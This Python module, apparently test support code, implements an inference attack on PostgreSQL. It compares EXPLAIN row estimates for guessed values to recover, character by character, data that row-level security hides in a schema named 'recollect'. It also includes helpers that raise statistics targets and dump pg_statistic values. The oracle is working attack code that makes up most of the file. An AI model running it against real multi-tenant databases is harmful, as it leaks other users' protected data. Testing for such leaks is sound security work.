"""An attack: reading other spaces' values out of what EXPLAIN estimates.

The planner looks at samples of every space's rows, and tells how many it expects. Whoever may ask
for a plan can so compare a guess with rows that row-level security hides, letter by letter.
"""

from __future__ import annotations

from collections import Counter
from collections.abc import Callable, Iterable
from typing import Any, Final

import psycopg
from psycopg import sql

Connection = psycopg.Connection[Any]
Way = Callable[[str, str], sql.Composable]

ALPHABET: Final = "abcdefghijklmnopqrstuvwxyz .-_0123456789"
_LAST: Final = "\U0010ffff"
# Every column of a table, and every column that an index computes.
_COLUMNS: Final = """
SELECT c.oid::regclass::text, c.relkind IN ('i', 'I'), a.attname, a.attnum, a.attstattarget
FROM pg_class c JOIN pg_attribute a ON a.attrelid = c.oid AND a.attnum > 0 AND NOT a.attisdropped
LEFT JOIN pg_index i ON i.indexrelid = c.oid
WHERE c.relnamespace = 'recollect'::regnamespace
  AND (c.relkind IN ('r', 'p', 'm', 'f') OR i.indkey[a.attnum - 1] = 0)
ORDER BY 1, 4
"""


def starts(column: str, guess: str) -> sql.Composable:
    """Values that begin so."""
    return sql.SQL("v.{} ^@ {}").format(sql.Identifier(column), guess)


def lies_between(column: str, guess: str) -> sql.Composable:
    """The same as a range: the planner looks for the ends of a range in an index, too."""
    name = sql.Identifier(column)
    return sql.SQL("v.{} >= {} AND v.{} < {}").format(name, guess, name, guess + _LAST)


def is_equal(column: str, guess: str) -> sql.Composable:
    """This very value."""
    return sql.SQL("v.{} = {}").format(sql.Identifier(column), guess)


class Oracle:
    """Guesses that are compared with what the planner knows."""

    def __init__(self, connection: Connection) -> None:
        self._connection = connection
        self.asked = 0

    def estimate(self, table: str, condition: sql.Composable) -> float:
        """How many rows the planner expects.

        Beside so many other rows nothing is rounded away, and OR keeps the condition in the join.
        """
        self.asked += 1
        question = sql.SQL(
            "EXPLAIN (FORMAT JSON) SELECT 1 FROM recollect.{} v,"
            " generate_series(1, 1000000000000) g WHERE ({}) OR g = -1"
        ).format(sql.Identifier(table), condition)
        row = self._connection.execute(question).fetchone()
        assert row is not None
        return float(row[0][0]["Plan"]["Plan Rows"])

    def letters(
        self, table: str, column: str, known: str, ways: Iterable[Way] = (starts,)
    ) -> list[str]:
        """The letters after what is known for which the planner expects anything unusual."""
        found: list[str] = []
        for way in ways:
            guesses = [self.estimate(table, way(column, known + letter)) for letter in ALPHABET]
            usual = Counter(guesses).most_common(1)[0][0]
            found += [
                letter
                for letter, guess in zip(ALPHABET, guesses, strict=True)
                if abs(guess - usual) > usual * 1e-4
            ]
        return found

    def spelled(self, table: str, column: str, known: str) -> str:
        """What follows a beginning, as far as the estimates tell."""
        while more := self.letters(table, column, known):
            known += more[0]
        return known

    def tells(self, table: str, column: str, value: str, decoy: str) -> bool:
        """True if a value that is there can be told from one that is not."""
        return self.estimate(table, is_equal(column, value)) != self.estimate(
            table, is_equal(column, decoy)
        )


def sampled(owner: Connection) -> list[str]:
    """Columns of which the planner takes samples."""
    return [
        f"{table}.{column}"
        for table, _, column, _, target in owner.execute(_COLUMNS).fetchall()
        if target != 0
    ]


def sample(owner: Connection, target: int = 10_000) -> None:
    """What a control needs: samples of every column, as PostgreSQL takes them by itself."""
    for table, is_index, column, number, _ in owner.execute(_COLUMNS).fetchall():
        change = "ALTER INDEX {} ALTER COLUMN {}" if is_index else "ALTER TABLE {} ALTER COLUMN {}"
        place = sql.SQL(str(number)) if is_index else sql.Identifier(column)
        statement = sql.SQL(change + " SET STATISTICS {}").format(sql.SQL(table), place, target)
        owner.execute(statement)
    owner.execute("ANALYZE")


def samples(owner: Connection) -> str:
    """All values that the planner's statistics hold of the schema, as text."""
    rows = owner.execute(
        "SELECT s.stavalues1, s.stavalues2, s.stavalues3, s.stavalues4, s.stavalues5"
        " FROM pg_statistic s JOIN pg_class c ON c.oid = s.starelid"
        " WHERE c.relnamespace = 'recollect'::regnamespace"
    ).fetchall()
    return "\n".join(str(value) for row in rows for value in row if value is not None)


def statistics(owner: Connection) -> list[Any]:
    """All that the planner's statistics hold of the schema, but for what tables are numbered."""
    return owner.execute(
        "SELECT c.relname, a.attname, to_jsonb(s) - 'starelid' FROM pg_statistic s"
        " JOIN pg_class c ON c.oid = s.starelid"
        " JOIN pg_attribute a ON a.attrelid = c.oid AND a.attnum = s.staattnum"
        " WHERE c.relnamespace = 'recollect'::regnamespace ORDER BY 1, 2"
    ).fetchall()
